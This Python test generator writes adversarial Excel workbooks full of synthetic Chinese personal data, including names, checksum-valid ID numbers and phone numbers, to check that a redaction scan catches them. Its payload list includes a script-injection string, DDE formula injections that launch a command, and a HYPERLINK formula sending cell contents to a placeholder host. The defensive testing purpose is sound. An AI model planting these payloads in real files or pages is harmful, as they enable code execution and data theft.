"""An adversarial raw folder: personal data planted everywhere a careless or hostile sender can put
it, in every spelling, plus live-script and live-formula payloads.

``python -m tests.adversarial.generate DIR --seed N`` writes the workbooks under DIR and
``DIR/planted.json`` (what a scan of the outputs must never find). Names, identity and phone
numbers are drawn from the seed, so each seed plants other values in other places.

Places: file and folder names, sheet names, headers, title and 填报单位 lines, group rows, notes
rows, department and co-organiser columns, free text, numeric and date cells (numbers stored as
floats), a roster bound to a text field, a roster read the wrong way (no header), and a sheet
with personal data only.
"""

from __future__ import annotations

import argparse
import json
import random
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl

_WEIGHTS = (7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2)
_CHECK = "10X98765432"
SURNAMES = "赵钱孙李周吴郑王冯陈褚卫蒋沈韩杨朱秦尤许何吕施张孔曹严华金魏陶姜"
GIVEN = "伟芳娜敏静丽强磊军洋勇艳杰娟涛明超秀霞平刚桂英华玉兰萍红玲"
REGIONS = ("110101", "210202", "310104", "440305", "510107", "330106")
SCRIPT = "<script>alert('x')</script>"
FORMULAS = ('=HYPERLINK("http://example.invalid/?q="&A1,"点击查看")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1", "-2+3")
WIDE = str.maketrans("0123456789X", "０１２３４５６７８９Ｘ")


def id_number(rng: random.Random, old: bool = False) -> str:
    """A valid 18-digit identity number (or a 15-digit one of the old kind)."""
    region = rng.choice(REGIONS)
    year, month, day = rng.randint(1950, 2005), rng.randint(1, 12), rng.randint(1, 28)
    seq = f"{rng.randint(0, 999):03d}"
    if old:
        return f"{region}{year % 100:02d}{month:02d}{day:02d}{seq}"
    first = f"{region}{year}{month:02d}{day:02d}{seq}"
    return first + _CHECK[sum(int(d) * w for d, w in zip(first, _WEIGHTS, strict=True)) % 11]


def mobile(rng: random.Random) -> str:
    return f"1{rng.choice('3456789')}{rng.randint(0, 999_999_999):09d}"


def landline(rng: random.Random) -> tuple[str, str]:
    """(area code, local number)."""
    return rng.choice(("0411", "010", "021", "0755", "024")), f"{rng.randint(2, 8)}{rng.randint(0, 9_999_999):07d}"


@dataclass
class Planted:
    """What was planted: names, identity numbers and phone numbers (as digits), payloads."""

    names: set[str] = field(default_factory=set)
    ids: set[str] = field(default_factory=set)
    phones: set[str] = field(default_factory=set)
    payloads: list[str] = field(default_factory=list)
    sheets: dict[str, list[str]] = field(default_factory=dict)  # file → sheet names

    def as_json(self) -> dict:
        return {"names": sorted(self.names), "ids": sorted(self.ids), "phones": sorted(self.phones),
                "payloads": self.payloads, "sheets": self.sheets}


class Planter:
    """Draws personal values from a seeded generator and remembers them."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.planted = Planted()

    def name(self) -> str:
        while True:
            n = self.rng.choice(SURNAMES) + "".join(self.rng.choice(GIVEN) for _ in range(self.rng.choice((1, 2))))
            if n not in self.planted.names:
                self.planted.names.add(n)
                return n

    def id(self, spelling: str = "") -> str:
        number = id_number(self.rng, old=spelling == "old")
        self.planted.ids.add(number)
        if spelling == "spaces":
            return f"{number[:6]} {number[6:14]} {number[14:]}"
        if spelling == "dashes":
            return f"{number[:6]}-{number[6:10]}-{number[10:14]}-{number[14:]}"
        if spelling == "prefix":
            return self.rng.choice(("sfz", "身份证:", "身份证号码：", "SFZ")) + number
        if spelling == "wide":
            return number.translate(WIDE)
        return number

    def id_as_float(self) -> float:
        """An identity number as Excel keeps a number: a float (17 of its digits survive)."""
        return float(int(self.id()[:17]) * 10)

    def phone(self, spelling: str = "") -> str:
        if spelling in ("landline", "brackets"):
            area, local = landline(self.rng)
            self.planted.phones.add(area + local)
            self.planted.phones.add(local)
            return f"({area}){local}" if spelling == "brackets" else f"{area}-{local}"
        number = mobile(self.rng)
        self.planted.phones.add(number)
        return {"dashes": f"{number[:3]}-{number[3:7]}-{number[7:]}", "spaces": f"{number[:3]} {number[3:7]} {number[7:]}",
                "plus": f"+86{number}", "zeros": f"0086{number}", "wide": number.translate(WIDE)}.get(spelling, number)

    def person(self) -> str:
        """A name next to a number, as free text writes it."""
        spelling = self.rng.choice(("", "dashes", "spaces", "plus", "zeros", "wide", "landline", "brackets"))
        joiner = self.rng.choice(("", " ", "：", "，电话", "（", " 手机 "))
        if self.rng.random() < 0.3:
            return f"{self.name()}{joiner}{self.id(self.rng.choice(('', 'spaces', 'dashes', 'prefix', 'wide', 'old')))}"
        return f"{self.name()}{joiner}{self.phone(spelling)}"


def _save(path: Path, sheets: list[tuple[str, list[list[object]]]]) -> None:
    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for title, rows in sheets:
        ws = wb.create_sheet(title[:31])
        for row in rows:
            ws.append(row)
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)


def generate(folder: Path, seed: int = 1) -> Planted:
    """Write the adversarial workbooks under ``folder``; return what was planted."""
    p = Planter(seed)
    rng = p.rng
    folder = Path(folder)
    events_head = ["序号", "活动日期", "活动名称", "活动类型", "地点", "发放材料（份）", "覆盖人数", "联合单位", "备注"]

    # 1. a publicity ledger with personal data in every place of a sheet
    rows: list[list[object]] = [
        [f"2025年普法活动台账 填报人：{p.name()} 电话：{p.phone('brackets')}"],
        [f"填报单位：区司法局（联系人{p.person()}）"],
        events_head[:-1] + [f"备注（联系人{p.name()} {p.phone('plus')}）"],
        [f"第一组 负责人{p.name()} 身份证号{p.id()}"],
    ]
    for i in range(12):
        people = p.phone() if i == 3 else p.id_as_float() if i == 5 else rng.randint(20, 300)
        date = float(int(p.phone())) if i == 7 else f"2025-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        rows.append([i + 1, date, f"民法典进社区第{i + 1}场" + (SCRIPT if i == 2 else ""),
                     "讲座", FORMULAS[i % len(FORMULAS)] if i < len(FORMULAS) else "社区广场",
                     rng.randint(10, 200), people, p.person() if i % 4 == 1 else p.name() if i % 4 == 2 else "区妇联",
                     p.person() if i % 3 == 0 else ""])
    rows.append([f"第二组 {p.name()}{p.id('spaces')}（组长）"])
    rows.append([f"注：有疑问请联系{p.name()}，手机{p.phone('dashes')}，座机{p.phone('landline')}"])
    sheet = f"{p.name()}{p.phone('spaces')}"
    name1 = f"区司法局_{p.name()}_{p.id('prefix')}_普法活动台账.xlsx"
    _save(folder / "区司法局" / name1, [(sheet, rows)])
    p.planted.sheets[f"区司法局/{name1}"] = [sheet[:31]]

    # 2. a dispute ledger: names in the handler and department columns, IDs in numbers, old IDs, wide digits
    head = ["序号", "案件编号", "受理日期", "纠纷类型", "所属街道", "化解主体", "是否化解", "当事人数", "备注"]
    rows = [["2025年矛盾纠纷排查化解台账"], head]
    for i in range(10):
        parties = p.id_as_float() if i == 0 else int(p.phone()) if i == 1 else rng.randint(1, 5)
        rows.append([i + 1, f"调{2025}{i:03d}", f"2025年{rng.randint(1, 12)}月{rng.randint(1, 28)}日",
                     "婚姻家庭", "新华街道", p.person() if i % 2 else "人民调解委员会", "是", parties,
                     f"当事人{p.name()}，{p.id(rng.choice(('old', 'wide', 'dashes')))}" if i % 3 == 0 else
                     f"申请人：{p.name()}" if i % 3 == 1 else SCRIPT])
    folder_name = f"新华街道{p.phone('zeros')}"
    _save(folder / folder_name / "矛盾纠纷排查化解台账.xlsx", [("台账", rows), (f"sfz{p.id()}", rows[:2] + rows[3:5])])

    # 3. a case-file review ledger whose reviewer column is a roster of names (a text field)
    rows = [["2025年行政执法案卷评查台账"], [f"填报单位：{p.name()}"], ["序号", "案卷编号", "执法单位", "案件类型", "评查人", "得分"]]
    reviewers = [p.name() for _ in range(4)]
    for i in range(12):
        rows.append([i + 1, f"西市监罚〔2025〕{i + 1}号", "区市场监督管理局", "行政处罚", reviewers[i % 4],
                     rng.randint(70, 100) if i != 4 else p.phone()])
    _save(folder / "区司法局" / "案卷评查台账.xlsx", [("评查", rows)])

    # 4. misread tables: a roster under a publicity header (names in 活动名称), a roster with no header
    rows = [["2025年普法活动台账"], ["活动日期", "活动名称", "地点", "覆盖人数"]]
    for _ in range(8):
        rows.append([f"2025-0{rng.randint(1, 9)}-1{rng.randint(0, 9)}", p.name(), p.phone(rng.choice(("", "dashes"))),
                     rng.randint(10, 90)])
    roster = [[p.name(), p.phone(), p.id(), "区司法局"] for _ in range(8)]
    headless = [["2025年普法活动台账"]] + [[p.name(), p.phone(), f"2025-0{rng.randint(1, 9)}-15", rng.randint(10, 90)]
                                       for _ in range(6)]
    _save(folder / "人民街道" / "普法活动台账（人员名单）.xlsx",
          [("台账", rows), ("名单", roster), ("无表头", headless)])

    # 5. a roster proper: 姓名, 身份证号, 联系电话 (a sheet that is none of ours)
    rows = [["姓名", "身份证号", "联系电话", "工作单位"]]
    rows += [[p.name(), p.id(rng.choice(("", "spaces", "wide"))), p.phone(rng.choice(("", "plus", "landline"))), "区司法局"]
             for _ in range(6)]
    _save(folder / "区司法局" / f"{p.name()}等人员名单.xlsx", [("名单", rows)])
    p.planted.payloads = [SCRIPT, *FORMULAS]
    return p.planted


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description="写出对抗性测试数据（个人信息、脚本与公式）")
    parser.add_argument("folder", type=Path)
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args(argv)
    planted = generate(args.folder, args.seed)
    (args.folder / "planted.json").write_text(json.dumps(planted.as_json(), ensure_ascii=False, indent=1),
                                               encoding="utf-8")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
